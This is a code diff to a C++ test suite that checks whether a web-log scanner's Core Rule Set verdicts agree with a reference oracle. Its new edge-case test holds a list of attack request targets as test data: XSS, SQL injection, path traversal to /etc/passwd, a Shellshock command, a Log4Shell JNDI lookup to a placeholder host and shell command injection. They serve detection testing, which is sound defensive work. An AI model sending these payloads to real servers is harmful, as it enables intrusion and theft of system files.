@@ -42,31 +42,34 @@ struct agreement {
   std::vector<std::string> examples;
 };
 
-// `as_configured`: vigil's default for the combined format, which skips the rules about headers the
-// format does not record; the oracle then runs without the same rules (SecRuleRemoveById).
-// Otherwise every rule runs in both, on the headers the line has.
+// `as_configured`: vigil's default for the combined format (REST methods allowed, the rules about
+// headers the format does not record skipped); the oracle gets the same configuration
+// (replay_directives). Otherwise CRS exactly as shipped in both, on the headers the line has.
+agreement compare_lines(const std::vector<std::string>& lines, int paranoia, bool as_configured);
+
 agreement compare(const std::string& corpus, int paranoia, bool as_configured) {
+  return compare_lines(read_lines(data_path(corpus)), paranoia, as_configured);
+}
+
+agreement compare_lines(const std::vector<std::string>& lines, int paranoia, bool as_configured) {
   vigil::crs::load_options options;
   options.paranoia_level = paranoia;
   if (as_configured) options.logged_headers = vigil::crs::headers_logged_by("combined");
+  else options.allowed_methods.clear();
   auto rules = rule_set::load(options);
   evaluator engine(rules);
   vigil::crs::prefilter_scan fast_path(std::make_shared<vigil::crs::prefilter>(rules));  // as vigil runs it
-  std::vector<int> removed;
-  for (int phase : {1, 2})
-    for (const auto* r : rules->phase(phase))
-      if (r->id && r->skipped_reason.find("which the log format does not record") != std::string::npos)
-        removed.push_back(r->id);
   if (as_configured) {
-    EXPECT_FALSE(removed.empty());
+    EXPECT_FALSE(rules->unlogged_header_rules().empty());
   }
   vigil::testing::crs_oracle oracle(std::string(vigil::testing::default_crs_rules_dir),
-                                    std::string(vigil::testing::default_crs_setup), paranoia, 5, removed);
+                                    std::string(vigil::testing::default_crs_setup), paranoia, 5,
+                                    rules->replay_directives());
   vigil::line_parser parser;
   vigil::log_record record;
   request req;
   agreement a;
-  for (const auto& line : read_lines(data_path(corpus))) {
+  for (const auto& line : lines) {
     if (!parser.parse(line, record)) continue;
     ++a.lines;
     auto expected = oracle.evaluate({record.method, record.target, record.protocol, record.host, record.user_agent,
@@ -110,6 +113,53 @@ TEST(CrsAgreement, DevCorpusAtParanoiaLevel1) { expect_agreement("dev.log", 1); 
 TEST(CrsAgreement, DevCorpusAtParanoiaLevel2) { expect_agreement("dev.log", 2); }
 TEST(CrsAgreement, HeldOutCorpusAtParanoiaLevel1) { expect_agreement("heldout.log", 1); }
 TEST(CrsAgreement, HeldOutCorpusAtParanoiaLevel2) { expect_agreement("heldout.log", 2); }
-TEST(CrsAgreement, EveryRuleOnTheHeadersTheLineHasAtParanoiaLevel1) { expect_agreement("dev.log", 1, false); }
+TEST(CrsAgreement, CrsAsShippedOnTheHeadersTheLineHasAtParanoiaLevel1) { expect_agreement("dev.log", 1, false); }
+
+}  // namespace
+
+namespace {
+
+// Where a replayed request is parsed in ways that are easy to get wrong: fragments, absolute-form
+// targets, escapes in the path, odd argument splits, protocols, NUL and high bytes (as nginx logs them).
+TEST(CrsAgreement, EdgesOfTheRequestTarget) {
+  const char* targets[] = {
+      "/a?x=1#<script>alert(1)</script>",
+      "/a#/etc/passwd?q=%3Cscript%3Ealert(1)%3C/script%3E",
+      "/p%23x?q=<script>alert(1)</script>",
+      "http://evil.example/x/../../etc/passwd?a=1",
+      "http://evil.example?q=<script>alert(1)</script>",
+      "/a%2Fb/c%3Fd.php?x=%27%20or%201=1--",
+      "/a?x=1&&=2&y&y=<script>alert(1)</script>&z=%zz%u0027",
+      "/a?x=%2527%20union%20select%201",
+      "/a?%3Cscript%3E=1",
+      "/a?x=+union+select+1,2,3+from+users--",
+      "/a?x=\\x00<script>",
+      "/a?x=\\xC0\\xAE\\xC0\\xAE/etc/passwd",
+      "/cgi-bin/test.cgi?() { :; }; /bin/cat /etc/passwd",
+      "/index.php?page=php://filter/convert.base64-encode/resource=index",
+      "/a?q=%u003cscript%u003e",
+      "/.env",
+      "/wp-login.php?x=${jndi:ldap://e.example/a}",
+      "/a?x=1;cat%20/etc/passwd",
+  };
+  std::vector<std::string> lines;
+  for (const char* t : targets)
+    for (const char* proto : {"HTTP/1.1", "HTTP/1.0"})
+      lines.push_back(std::string("198.51.100.7 - - [07/Dec/2026:10:00:00 +0000] \"GET ") + t + " " + proto +
+                      "\" 200 12 \"-\" \"Mozilla/5.0 AppleWebKit/537.36\"");
+  lines.push_back("198.51.100.7 - - [07/Dec/2026:10:00:00 +0000] \"GET /a?x=<script>\" 400 0 \"-\" \"-\"");
+  lines.push_back("198.51.100.7 - - [07/Dec/2026:10:00:00 +0000] \"DELETE /api/items/1 HTTP/1.1\" 204 0 \"-\" \"curl/8.0\"");
+  lines.push_back("198.51.100.7 - - [07/Dec/2026:10:00:00 +0000] \"TRACE / HTTP/1.1\" 405 0 \"-\" \"curl/8.0\"");
+  for (bool as_configured : {true, false}) {
+    agreement a = compare_lines(lines, 1, as_configured);
+    std::string report;
+    for (const auto& e : a.examples) report += e + "\n";
+    EXPECT_EQ(a.lines, static_cast<int>(lines.size()));
+    EXPECT_GT(a.oracle_flagged, 10);
+    EXPECT_EQ(a.both_flagged, a.oracle_flagged) << report;
+    EXPECT_EQ(a.vigil_only, 0) << report;
+    EXPECT_EQ(a.same_rules, a.lines) << report;
+  }
+}
 
 }  // namespace
